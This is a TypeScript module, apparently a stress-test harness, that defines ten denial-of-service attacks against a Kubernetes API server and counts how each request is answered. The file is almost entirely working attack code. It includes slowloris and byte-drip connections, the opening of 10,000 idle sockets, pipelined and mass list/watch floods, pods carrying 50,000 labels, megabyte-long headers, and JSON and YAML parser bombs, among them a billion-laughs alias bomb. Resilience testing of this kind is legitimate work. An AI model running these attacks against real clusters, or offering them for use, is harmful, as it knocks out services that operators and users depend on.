/** What a master is made to bear: each attack goes on until it has been answered, or its time is over. */
import http from "node:http";
import { connect, type Socket } from "node:net";

/** Where, and what each request shows. */
export interface Victim {
  host: string;
  port: number;
  headers: Record<string, string>;
}

/** How often each answer came: by status, or what else became of it. */
export type Tally = Record<string, number>;

export type Attack = (victim: Victim, forMs: number) => Promise<Tally>;

const pods = "/api/v1/pods";
const namespaced = "/api/v1/namespaces/default/pods";

function count(tally: Tally, what: string | number): void {
  tally[what] = (tally[what] ?? 0) + 1;
}

const wait = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** One request on a connection of its own; its answer is read, and thrown away. */
function request(victim: Victim, tally: Tally, path: string, forMs: number, body?: string): Promise<void> {
  return new Promise((resolve) => {
    const { host, port, headers } = victim;
    const method = body === undefined ? "GET" : "POST";
    const outgoing = http.request({ host, port, path, method, headers, agent: false }, (incoming) => {
      incoming.on("end", () => count(tally, incoming.statusCode ?? 0));
      incoming.on("error", () => count(tally, "cut off"));
      incoming.resume();
    });
    const late = setTimeout(() => outgoing.destroy(), forMs);
    outgoing.on("error", () => count(tally, "no answer"));
    outgoing.on("close", () => {
      clearTimeout(late);
      resolve();
    });
    outgoing.end(body);
  });
}

const head = ({ headers }: Victim, line: string, more = ""): string =>
  `${line} HTTP/1.1\r\nhost: localhost\r\n${Object.entries(headers)
    .map(([k, v]) => `${k}: ${v}\r\n`)
    .join("")}${more}\r\n`;

/** Connections that are left open until the time is over. */
async function hold(
  { host, port }: Victim,
  connections: number,
  forMs: number,
  use: (socket: Socket, i: number) => void,
): Promise<Tally> {
  const tally: Tally = {};
  const sockets: Socket[] = [];
  for (let i = 0; i < connections; i++) {
    const socket = connect({ host, port });
    socket.on("error", () => count(tally, "cut off"));
    socket.on("connect", () => use(socket, i));
    sockets.push(socket);
    if (i % 100 === 99) await wait(5);
  }
  await wait(forMs);
  for (const socket of sockets) {
    count(tally, socket.destroyed ? "ended" : "open");
    socket.destroy();
  }
  return tally;
}

/** Sends a byte a second. */
function drip(socket: Socket, text: string): void {
  let at = 0;
  const timer = setInterval(() => {
    if (socket.destroyed || at >= text.length) clearInterval(timer);
    else socket.write(text[at++] ?? "");
  }, 1_000);
  socket.once("close", () => clearInterval(timer));
}

async function requests(victim: Victim, paths: readonly string[], forMs: number, bodies?: string[]): Promise<Tally> {
  const tally: Tally = {};
  await Promise.all(paths.map((path, i) => request(victim, tally, path, forMs, bodies?.[i])));
  return tally;
}

const times = <T>(length: number, of: (i: number) => T): T[] => Array.from({ length }, (_, i) => of(i));

const labelled = (i: number): string =>
  JSON.stringify({
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name: `labels-${i}`, labels: Object.fromEntries(times(50_000, (n) => [`l${n}`, `v${n}`])) },
    spec: { containers: [{ name: "c", image: "example/web:3" }] },
  });

const bombs: readonly string[] = [
  "[".repeat(1_000_000),
  `{"a":`.repeat(100_000),
  `a: &a [x,x,x,x,x,x,x,x,x]\n${times(12, (i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${times(9, () => `*${String.fromCharCode(97 + i)}`).join(",")}]`).join("\n")}`,
  `a: >\n${"  b\n".repeat(400_000)}`,
  "{".repeat(20_000),
  `[${"[],".repeat(300_000)}[]]`,
];

export const attacks: Readonly<Record<string, Attack>> = {
  lists: (victim, forMs) =>
    requests(
      victim,
      times(1_000, () => pods),
      forMs,
    ),
  unread: (victim, forMs) =>
    hold(victim, 300, forMs, (socket) => {
      socket.pause();
      socket.write(head(victim, `GET ${pods}`));
    }),
  watches: (victim, forMs) =>
    requests(
      victim,
      times(200, () => `${pods}?watch=true&timeoutSeconds=${Math.ceil(forMs / 1_000)}`),
      2 * forMs,
    ),
  labels: (victim, forMs) =>
    requests(
      victim,
      times(30, () => namespaced),
      forMs,
      times(30, labelled),
    ),
  pipelined: (victim, forMs) =>
    hold(victim, 50, forMs, (socket) => {
      socket.resume();
      socket.write(head(victim, `GET ${namespaced}/none`).repeat(2_000));
    }),
  idle: (victim, forMs) => hold(victim, 10_000, forMs, () => {}),
  slowloris: (victim, forMs) =>
    hold(victim, 1_000, forMs, (socket) => drip(socket, head(victim, `GET ${pods}`, `x: ${"y".repeat(200)}\r\n`))),
  drip: (victim, forMs) =>
    hold(victim, 500, forMs, (socket) => {
      socket.write(head(victim, `POST ${namespaced}`, "content-length: 100000\r\n"));
      drip(socket, "{".repeat(1_000));
    }),
  bombs: (victim, forMs) => {
    const all = times(10, () => bombs).flat();
    return requests(
      victim,
      all.map(() => namespaced),
      forMs,
      all,
    );
  },
  heads: (victim, forMs) =>
    hold(victim, 300, forMs, (socket) => socket.write(head(victim, `GET ${pods}`, `x: ${"y".repeat(1_000_000)}\r\n`))),
};
